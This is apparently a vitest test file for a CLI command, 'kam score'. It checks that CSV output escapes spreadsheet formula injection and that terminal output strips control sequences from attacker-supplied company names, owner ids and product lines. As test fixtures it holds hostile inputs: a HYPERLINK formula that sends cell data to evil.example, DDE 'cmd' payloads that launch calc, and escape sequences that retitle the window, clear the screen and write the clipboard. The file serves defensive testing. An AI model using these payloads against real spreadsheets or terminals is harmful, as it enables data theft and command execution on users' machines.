/**
 * Issue 14, items 7 and 8: what `kam score` prints from a portal whose
 * names, owner ids and product lines were typed by an attacker. A CSV cell
 * never runs as a spreadsheet formula; a terminal never receives a control
 * character from the data (window title, clear screen, OSC 52 clipboard).
 */
import { mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { kam, kamWithEnv } from '../../support/kam-cli.ts';

const AS_OF = '2026-11-01T00:00:00Z';
const ESC = '\u001b';
const BEL = '\u0007';
/** A name that retitles the window, clears the screen and writes the clipboard. */
const ESCAPING_NAME = `${ESC}]0;pwned${BEL}Evil${ESC}[2J Corp${ESC}]52;c;ZXZpbA==${BEL}\u009b31m\u0000`;
/** Any control character (C0, DEL, C1) but the line feeds between lines. */
const CONTROL = /(?!\n)\p{Cc}/u;
/** One colour of our own (SGR), as it follows an ESC. */
const COLOUR = /^\[\d+(;\d+)*m/;

/** A won deal of `companyId` in `productLine`, closed on `closedate`. */
function wonDeal(id: string, companyId: string, amount: number, closedate: string, line: string) {
  return {
    id,
    properties: {
      amount: String(amount),
      hs_is_closed: 'true',
      hs_is_closed_won: 'true',
      closedate,
      pipeline: line,
    },
    associations: { companies: { results: [{ id: companyId, type: 'deal_to_company' }] } },
  };
}

const FORMULAS: Record<string, string> = {
  '1': '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
  '2': '+1+cmd|" /C calc"!A0',
  '3': '-2+3+cmd|" /C calc"!A0',
  '4': '@SUM(1+1)*cmd|" /C calc"!A0',
  '5': '\t=1+1',
  '6': '\r=1+1',
};

const PORTAL = {
  companies: [
    ...Object.entries(FORMULAS).map(([id, name]) => ({
      id,
      properties: { name, hubspot_owner_id: id === '1' ? '=1+1' : '7' },
    })),
    { id: '7', properties: { name: ESCAPING_NAME } },
  ],
  deals: [
    // Company 1 sells less than last year: a negative growth, which stays a number.
    wonDeal('10', '1', 100_000, '2026-06-01T00:00:00Z', '@line'),
    wonDeal('11', '1', 900_000, '2025-06-01T00:00:00Z', '@line'),
    ...['2', '3', '4', '5', '6', '7'].map((id) =>
      wonDeal(`2${id}`, id, 50_000 * Number(id), '2026-05-01T00:00:00Z', 'default'),
    ),
  ],
};

let input: string;
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kam-hostile-'));
  input = join(dir, 'hostile.json');
  await writeFile(input, JSON.stringify(PORTAL));
});

describe('kam score --format csv never writes an executable cell (item 7)', () => {
  it('names, owner ids and product lines starting with = + - @ tab or CR are escaped with a quote', async () => {
    const { code, stdout } = await kam(
      'score',
      '--input',
      input,
      '--as-of',
      AS_OF,
      '--format',
      'csv',
    );
    expect(code).toBe(0);
    const rows = parse<Record<string, string>>(stdout, { columns: true, relax_quotes: true });
    const byId = new Map(rows.map((row) => [row.id, row]));
    for (const [id, name] of Object.entries(FORMULAS)) {
      // The text is kept (trimmed, as the model reads names), behind the
      // quote a spreadsheet shows as text.
      expect(byId.get(id)?.name).toBe(`'${name.trim()}`);
    }
    expect(byId.get('1')?.owner_id).toBe("'=1+1");
    expect(byId.get('1')?.product_lines).toBe("'@line");
    // A negative number is a number, not a formula.
    expect(Number(byId.get('1')?.growth)).toBeLessThan(0);
    expect(byId.get('1')?.growth).toMatch(/^-0\.\d+$/);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (/^-\d/.test(cell) && Number.isFinite(Number(cell))) continue;
        expect(`${column}: ${cell}`).not.toMatch(/^\w+: [=+\-@\t\r]/);
      }
    }
  });
});

describe('kam score prints no control character from the data on a terminal (item 8)', () => {
  it.each([
    ['without colour', {}],
    ['with colour forced', { FORCE_COLOR: '1', NO_COLOR: '' }],
  ])('--format table %s: the name is shown as text only', async (_case, env) => {
    const { code, stdout } = await kamWithEnv(
      env,
      'score',
      '--input',
      input,
      '--as-of',
      AS_OF,
      '--format',
      'table',
    );
    expect(code).toBe(0);
    expect(stdout).toContain('Evil Corp [7]');
    expect(stdout).not.toContain('pwned');
    // Every escape sequence left is one of our colours; without them, no control at all.
    const [first = '', ...afterEscapes] = stdout.split(ESC);
    for (const part of afterEscapes) expect(part).toMatch(COLOUR);
    const text = [first, ...afterEscapes.map((part) => part.replace(COLOUR, ''))].join('');
    expect(text).not.toMatch(CONTROL);
  });

  it('an error message quoting the input file prints its ids as text only', async () => {
    const bad = join(dir, 'bad-id.json');
    await writeFile(
      bad,
      JSON.stringify({ companies: [], deals: [{ id: `${ESC}]0;pwned${BEL}`, properties: 'x' }] }),
    );
    const { code, stderr } = await kam('score', '--input', bad);
    expect(code).toBe(2);
    expect(stderr).toMatch(/deals\[0\] \(id .*\)\.properties/);
    expect(stderr).not.toMatch(CONTROL);
  });
});
